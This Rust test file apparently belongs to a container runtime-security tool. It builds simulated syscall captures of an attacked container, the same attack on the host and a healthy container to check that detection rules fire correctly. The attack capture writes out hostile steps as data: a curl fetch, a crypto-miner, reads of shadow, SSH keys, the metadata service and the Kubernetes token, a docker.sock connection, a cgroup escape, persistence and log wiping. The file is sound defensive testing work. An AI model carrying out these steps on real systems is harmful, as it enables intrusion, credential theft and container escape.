//! Built-in rules over captures of what they are about: `palisade rules test` with the test
//! file that ships with the rules. Every rule is fired for real by the live tests of the agent.

use std::path::Path;

use crate::capture::{
    Arg, CHILD, HOST, Recording, SERVER, SOCKET, WORKER, address, connection, unix_address,
};
use crate::support::run;

const READ: &[&str] = &["O_RDONLY"];
const WRITE: &[&str] = &["O_WRONLY", "O_CREAT"];
const EACCES: i64 = -13;
const EPERM: i64 = -1;
/// The test file that ships with the rules.
const TESTS: &str = include_str!("../../../agent/rules/palisade.test.yaml");

fn number(n: i64) -> Arg<'static> {
    Arg::Number(n)
}

/// What attackers do in a container, `tid` being the one who does it, and `parent` its
/// parent; a server's child where a rule asks for one.
fn attack(recording: &mut Recording, (tid, parent): (i64, i64), (child, server): (i64, i64)) {
    let r = recording;
    // Execution.
    r.exec((child, server), "/usr/bin/sh", &["-c", "id"], &[]);
    r.exec((tid, parent), "/usr/bin/bash", &["-i"], &[("tty", number(34_816))]);
    r.exec((tid, parent), "/tmp/x", &[], &[]);
    r.exec((tid, parent), "/tmp/y", &[], &[("res", number(EACCES))]);
    let memfd = Arg::Names(&["EXE_FROM_MEMFD"]);
    r.exec((tid, parent), "/memfd:z", &[], &[("flags", memfd)]);
    r.exec((tid, parent), "/proc/self/fd/4", &[], &[("res", number(EPERM))]);
    r.exec((tid, parent), "/usr/bin/worker", &[], &[]);
    r.call("memfd_create", tid, &[("fd", number(4)), ("name", Arg::Text("z"))]);
    r.exec((tid, parent), "/usr/bin/apt-get", &["install", "x"], &[]);
    r.exec((tid, parent), "/usr/bin/nmap", &["10.0.0.0/24"], &[]);
    r.exec((child, server), "/usr/bin/curl", &["http://203.0.113.9/x"], &[]);
    // Command and control.
    r.exec((tid, parent), "/usr/bin/worker", &[], &[]);
    let dup = [("res", number(0)), ("oldfd", number(SOCKET)), ("newfd", number(0))];
    r.call("dup2", tid, &dup);
    r.exec((tid, parent), "/usr/bin/dash", &[], &[]);
    r.exec((tid, parent), "/usr/bin/xmrig", &["-o", "stratum+tcp://pool:3333"], &[]);
    r.exec((tid, parent), "/usr/bin/worker", &[], &[]);
    let connect = |r: &mut Recording, to: [u8; 4], port: u16| {
        let args =
            [("fd", number(SOCKET)), ("tuple", connection(to, port)), ("addr", address(to, port))];
        r.call("connect", tid, &args);
    };
    connect(r, [203, 0, 113, 9], 3333);
    // Credentials.
    r.open(tid, "/etc/shadow", READ, 5);
    r.open(tid, "/etc/shadow", READ, EACCES);
    r.open(tid, "/etc/passwd", WRITE, 5);
    connect(r, [169, 254, 169, 254], 80);
    r.open(tid, "/proc/1/environ", READ, 5);
    r.open(tid, "/proc/1/mem", READ, 5);
    r.open(tid, "/root/.ssh/id_rsa", READ, 5);
    r.exec((tid, parent), "/usr/bin/cat", &["token"], &[]);
    r.open(tid, "/run/secrets/kubernetes.io/serviceaccount/token", READ, 5);
    r.exec((tid, parent), "/usr/bin/worker", &[], &[]);
    let socket = [("fd", number(SOCKET)), ("addr", unix_address("/var/run/docker.sock"))];
    r.call("connect", tid, &socket);
    r.call("socket", tid, &[("fd", number(6)), ("domain", number(17)), ("type", number(3))]);
    // Escape.
    r.open(tid, "/sys/fs/cgroup/rdma/release_agent", WRITE, 5);
    r.open(tid, "/sys/fs/cgroup/rdma/release_agent", WRITE, EACCES);
    r.call("mount", tid, &[("res", number(EPERM)), ("dir", Arg::Text("/mnt"))]);
    r.call("unshare", tid, &[("res", number(EPERM))]);
    r.call("init_module", tid, &[("res", number(EPERM))]);
    r.call("bpf", tid, &[("fd", number(EPERM))]);
    r.call("ptrace", tid, &[("res", number(EPERM)), ("request", Arg::Names(&["PTRACE_ATTACH"]))]);
    r.open(tid, "/dev/sda", READ, 5);
    r.open(tid, "/usr/sbin/runc", WRITE, 5);
    r.call("userfaultfd", tid, &[("res", number(EPERM))]);
    // Privilege and persistence.
    let setuid = [
        ("dirfd", number(-100)),
        ("filename", Arg::Text("/srv/x")),
        ("mode", Arg::Names(&["S_ISUID", "S_IXUSR"])),
    ];
    r.call("fchmodat", tid, &setuid);
    r.open(tid, "/etc/ld.so.preload", WRITE, 5);
    r.open(tid, "/etc/cron.d/x", WRITE, 5);
    r.open(tid, "/root/.ssh/authorized_keys", WRITE, 5);
    r.open(server, "/var/www/html/x.php", WRITE, 5);
    r.open(tid, "/usr/bin/ls", WRITE, 5);
    // Traces.
    r.call("unlinkat", tid, &[("dirfd", number(-100)), ("name", Arg::Text("/var/log/auth.log"))]);
    r.exec((tid, parent), "/usr/bin/shred", &["/data"], &[]);
}

/// What a healthy container does.
fn work(recording: &mut Recording) {
    let r = recording;
    r.open(SERVER, "/etc/nginx/nginx.conf", READ, 5);
    r.open(SERVER, "/var/log/nginx/access.log", WRITE, 6);
    r.open(WORKER, "/etc/passwd", READ, 5);
    r.open(WORKER, "/proc/self/environ", READ, 5);
    r.open(WORKER, "/etc/shadow", READ, -2);
    let to = [10, 0, 0, 7];
    let args =
        [("fd", number(SOCKET)), ("tuple", connection(to, 5432)), ("addr", address(to, 5432))];
    r.call("connect", WORKER, &args);
    r.exec((CHILD, WORKER), "/usr/bin/python3", &["app.py"], &[]);
}

fn write(folder: &Path) {
    let mut attacked = Recording::new();
    attack(&mut attacked, (WORKER, 90), (CHILD, SERVER));
    attacked.save(&folder.join("attack.scap"));
    // The same on the host, which the built-in rules leave alone.
    let mut host = Recording::new();
    attack(&mut host, (HOST, 1), (HOST, 1));
    host.save(&folder.join("host.scap"));
    let mut healthy = Recording::new();
    work(&mut healthy);
    healthy.save(&folder.join("work.scap"));
    std::fs::write(folder.join("palisade.test.yaml"), TESTS).unwrap();
}

#[test]
fn each_rule_sees_what_it_is_about_and_nothing_else() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path());
    let ended = run(folder.path(), &["rules", "test", "palisade.test.yaml"]).expect(0);
    assert!(ended.stdout.ends_with("3 passed, 0 failed\n"), "{}", ended.stdout);
    let json = ["rules", "test", "--quiet", "--format", "json", "palisade.test.yaml"];
    let ended = run(folder.path(), &json).expect(0);
    let result: serde_json::Value = serde_json::from_str(&ended.stdout).unwrap();
    let alerts = |case: usize| result["suites"][0]["cases"][case]["alerts"].as_object().unwrap();
    let n_rules = TESTS.matches("- rule: ").count();
    assert_eq!([0, 1, 2].map(|case| alerts(case).len()), [n_rules, 0, 0], "{:?}", alerts(0));
}

#[test]
fn the_test_file_names_rules_that_exist() {
    let folder = tempfile::tempdir().unwrap();
    let listed = run(folder.path(), &["rules", "list", "--format", "tsv"]).expect(0).stdout;
    let names: Vec<&str> = listed.lines().filter_map(|line| line.split('\t').next()).collect();
    let named: Vec<&str> =
        TESTS.lines().filter_map(|l| l.trim().strip_prefix("- rule: ")).collect();
    assert!(named.len() > 40, "{} rules", named.len());
    for name in named {
        assert!(names.contains(&name), "there is no rule `{name}`");
    }
}
